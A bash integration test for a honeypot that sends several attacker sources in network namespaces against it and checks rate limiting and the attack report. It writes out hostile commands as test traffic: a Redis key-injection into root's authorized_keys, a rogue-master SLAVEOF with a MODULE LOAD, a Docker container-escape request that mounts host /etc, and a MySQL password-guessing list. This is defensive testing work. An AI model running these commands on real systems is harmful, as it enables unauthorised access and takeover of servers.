#!/usr/bin/env bash
# Attacks from distinct source addresses: the honeypot runs in a network namespace of its own
# (address 192.0.2.1, no route anywhere else, so it could not fetch what it is sent even if it
# tried), and five client namespaces, each joined to it by a veth pair, hold public addresses
# from different countries of the pinned GeoIP database. Asserts per-source grouping, the
# per-source connection, connection-rate and byte-rate limits (others keep being served), and
# the report's figures by source country, attack type and automation.
# Needs root (ip netns); exits 77 otherwise.
set -euo pipefail
. "$(dirname "$0")/honeypot_lib.bash"
if [ "$(id -u)" != 0 ]; then echo "SKIP: network namespaces need root"; exit 77; fi
need ip "apt-get install iproute2"
need redis-cli "apt-get install redis-tools"
need curl "apt-get install curl"
need jq "apt-get install jq"
need python3 "apt-get install python3"
MYSQL=$(command -v mariadb || command -v mysql || true)
[ -n "$MYSQL" ] || { echo "SKIP: no mysql/mariadb client"; exit 77; }
ip netns add "lhp$$probe" 2>/dev/null || { echo "SKIP: cannot create network namespaces here"; exit 77; }
ip netns del "lhp$$probe"

SRV="lhp$$s"
SRV_IP=192.0.2.1
# name address country (in geo-whois-asn-country 2.3.2026061719)
CLIENTS=("a 5.9.0.2 DE" "b 8.8.4.5 US" "c 110.242.68.3 CN" "d 77.88.8.9 RU" "e 45.33.32.156 US")
cleanup() {
  [ -n "${HP_PID:-}" ] && kill -TERM "$HP_PID" 2>/dev/null || true
  for c in "${CLIENTS[@]}"; do ip netns del "lhp$$${c%% *}" 2>/dev/null || true; done
  ip netns del "$SRV" 2>/dev/null || true
}
trap cleanup EXIT

ip netns add "$SRV"
ip -n "$SRV" link set lo up
ip -n "$SRV" addr add "$SRV_IP/32" dev lo
for c in "${CLIENTS[@]}"; do
  read -r name addr _ <<<"$c"
  ns="lhp$$$name"
  ip netns add "$ns"
  ip link add "vh$$$name" netns "$SRV" type veth peer name eth0 netns "$ns"
  ip -n "$ns" link set lo up
  ip -n "$ns" link set eth0 up
  ip -n "$SRV" link set "vh$$$name" up
  ip -n "$ns" addr add "$addr/32" dev eth0
  ip -n "$ns" route add "$SRV_IP/32" dev eth0
  ip -n "$SRV" route add "$addr/32" dev "vh$$$name"
done
in_ns() { local n="lhp$$$1"; shift; ip netns exec "$n" "$@"; }

W=$(hp_workdir honeypot_netns)
hp_start "$W" ip netns exec "$SRV" -- --redis "$SRV_IP:6379" --docker "$SRV_IP:2375" --mysql "$SRV_IP:3306" \
  --source-conns 4 --source-conn-rate 20 --source-byte-rate 32K --flush-ms 20
R=6379

# d (RU): twelve connections at once; four are served, eight refused
held=$(in_ns d python3 - <<'EOF'
import socket, time
conns = []
for _ in range(12):
    try:
        conns.append(socket.create_connection(("192.0.2.1", 6379), timeout=5))
    except OSError:  # reset while connecting: refused
        pass
time.sleep(0.3)
ok = 0
for s in conns:
    try:
        s.sendall(b"PING\r\n")
        ok += s.recv(16).startswith(b"+PONG")
    except OSError:
        pass
print(ok, 12 - ok)
EOF
)
[ "$held" = "4 8" ] || fail "connections served/refused from one source: $held (want 4 8)"

# d (RU): a burst of connections one after the other passes the 20/s rate (burst 40) and is cut;
# the bound allows for the tokens refilled while the burst ran (however slow the machine)
burst=$(in_ns d python3 - <<'EOF'
import socket, time
ok = refused = 0
t0 = time.monotonic()
for _ in range(100):
    try:
        s = socket.create_connection(("192.0.2.1", 6379), timeout=5)
        s.sendall(b"PING\r\n")
        ok += s.recv(16).startswith(b"+PONG")
        s.close()
    except OSError:
        refused += 1
print(ok, int(40 + 20 * (time.monotonic() - t0) + 1))
EOF
)
read -r served bound <<<"$burst"
[ "$served" -ge 20 ] && [ "$served" -le "$bound" ] && [ "$served" -lt 100 ] \
  || fail "connections served in a burst of 100: $served (rate 20/s, burst 40: at most $bound)"

# d (RU), in the background: a 200 KB value, more than the 32 KB/s byte budget's 128 KB burst
in_ns d python3 - >"$W/upload" <<'EOF' &
import socket
s = socket.create_connection(("192.0.2.1", 6379), timeout=30)
v = b"A" * 200000
s.sendall(b"*3\r\n$3\r\nSET\r\n$6\r\nupload\r\n$%d\r\n%s\r\n" % (len(v), v))
print(s.recv(16).decode().strip())
EOF
UPLOAD=$!
# e (US), in the background: a person at a prompt, seconds between commands
(printf 'INFO server\n'; sleep 2.2; printf 'KEYS *\n'; sleep 2.2; printf 'GET backup\n') | in_ns e redis-cli -h "$SRV_IP" -p $R >/dev/null &
MANUAL=$!

# a (DE): persistence and rogue master, scripted
printf 'CONFIG SET dir /root/.ssh\nCONFIG SET dbfilename authorized_keys\nSET x "\\n\\nssh-rsa AAAAB3Nza attacker\\n\\n"\nSAVE\n' \
  | in_ns a redis-cli -h "$SRV_IP" -p $R >/dev/null
printf 'SLAVEOF 5.9.0.1 21000\nMODULE LOAD /tmp/exp.so\n' | in_ns a redis-cli -h "$SRV_IP" -p $R >/dev/null
# b (US): docker escape through a host mount
in_ns b curl -sf -X POST -H 'Content-Type: application/json' "http://$SRV_IP:2375/containers/create" \
  -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/etc:/host/etc"]}}' >/dev/null || fail "docker create from b"
# c (CN): a password list
for pw in 123456 admin root mysql 1q2w3e4r qwerty; do
  in_ns c "$MYSQL" -h "$SRV_IP" -P 3306 -u root "-p$pw" -e 'select 1' >/dev/null 2>&1 && fail "login succeeded"
done
# other sources are served while d is being limited
[ "$(in_ns a redis-cli -h "$SRV_IP" -p $R PING)" = PONG ] || fail "a not served"

wait "$MANUAL" || fail "manual session"
wait "$UPLOAD" || fail "upload"
[ "$(cat "$W/upload")" = "+OK" ] || fail "the throttled upload did not complete: $(cat "$W/upload")"
hp_stop

# -- events: sources as seen by the honeypot, limits
srcs=$(hp_cat | jq -r 'select(.src_ip and (.eventid|startswith("session."))) | .src_ip' | sort -u | paste -sd' ')
[ "$srcs" = "110.242.68.3 45.33.32.156 5.9.0.2 77.88.8.9 8.8.4.5" ] || fail "sources: $srcs"
hp_cat | jq -se 'map(select(.eventid=="honeypot.limit" and .src_ip=="77.88.8.9" and .reason=="source-conns")) | map(.refused) | add >= 8' \
  >/dev/null || fail "no source-conns limit event for 77.88.8.9"
hp_cat | jq -se 'map(select(.eventid=="honeypot.limit" and .src_ip=="77.88.8.9" and .reason=="source-conn-rate")) | length >= 1' \
  >/dev/null || fail "no source-conn-rate limit event"
hp_cat | jq -se 'map(select(.eventid=="honeypot.limit" and .src_ip!="77.88.8.9")) | length == 0' >/dev/null \
  || fail "a source other than 77.88.8.9 was limited"
hp_cat | jq -se 'map(select(.eventid=="honeypot.stop"))[0].throttled > 0' >/dev/null || fail "the byte rate never paused a connection"
[ "$(hp_count '.eventid=="redis.command" and .request.command=="SET" and .src_ip=="77.88.8.9" and .payload_size==200000')" = 1 ] \
  || fail "the upload's event"

# -- the report
GEO=$(hp_geoip || true)
if [ -z "$GEO" ]; then
  echo "note: GeoIP database unavailable (no npm, no cache); countries not asserted"
  "$LADING_BIN" honeypot report $(hp_files) --format json -o "$W/report.json"
else
  "$LADING_BIN" honeypot report $(hp_files) --geoip "$GEO" --format json -o "$W/report.json"
  for c in "${CLIENTS[@]}"; do
    read -r name addr cc <<<"$c"
    got=$(jq -r --arg ip "$addr" '[.attack_sessions[] | select(.src_ip==$ip) | .country] | unique | join(",")' "$W/report.json")
    [ "$got" = "$cc" ] || fail "country of $addr: $got, want $cc"
  done
  jq -e '[.by_country[] | {(.key): .sessions}] | add == {"US":2,"DE":1,"CN":1,"RU":1}' "$W/report.json" >/dev/null \
    || fail "sessions by country: $(jq -c .by_country "$W/report.json")"
  jq -e '[.sources_by_country[] | select(.key=="US")][0] | .sources == 2 and .share == 0.4' "$W/report.json" >/dev/null \
    || fail "sources by country: $(jq -c .sources_by_country "$W/report.json")"
  jq -e '.geoip | test("geo-whois-asn-country")' "$W/report.json" >/dev/null || fail "GeoIP description"
fi
jq -e '.sources == 5 and .sessions == 5 and .automated == 4 and .manual == 1 and .automated_share == 0.8' "$W/report.json" >/dev/null \
  || fail "report totals: $(jq -c '{sources,sessions,automated,manual,automated_share}' "$W/report.json")"
want='{"5.9.0.2":"redis-rogue-master","8.8.4.5":"container-escape","110.242.68.3":"credential-brute-force","77.88.8.9":"recon","45.33.32.156":"recon"}'
jq -e --argjson w "$want" '[.attack_sessions[] | {(.src_ip): .type}] | add == $w' "$W/report.json" >/dev/null \
  || fail "types: $(jq -c '[.attack_sessions[] | {(.src_ip): .type}]' "$W/report.json")"
jq -e '[.attack_sessions[] | select(.src_ip=="45.33.32.156")][0] | .automated == false and .why == "human-timing"' "$W/report.json" >/dev/null \
  || fail "manual session: $(jq -c '.attack_sessions[] | select(.src_ip=="45.33.32.156")' "$W/report.json")"
jq -e '[.attack_sessions[] | select(.src_ip=="5.9.0.2")][0].types == "redis-rogue-master,redis-persistence"' "$W/report.json" >/dev/null \
  || fail "a's types"
jq -e '[.by_type[] | {(.key): .share}] | add | .recon == 0.4' "$W/report.json" >/dev/null || fail "share of recon"
echo "ok: 5 sources in 5 namespaces${GEO:+, countries from $(basename "$GEO")}"
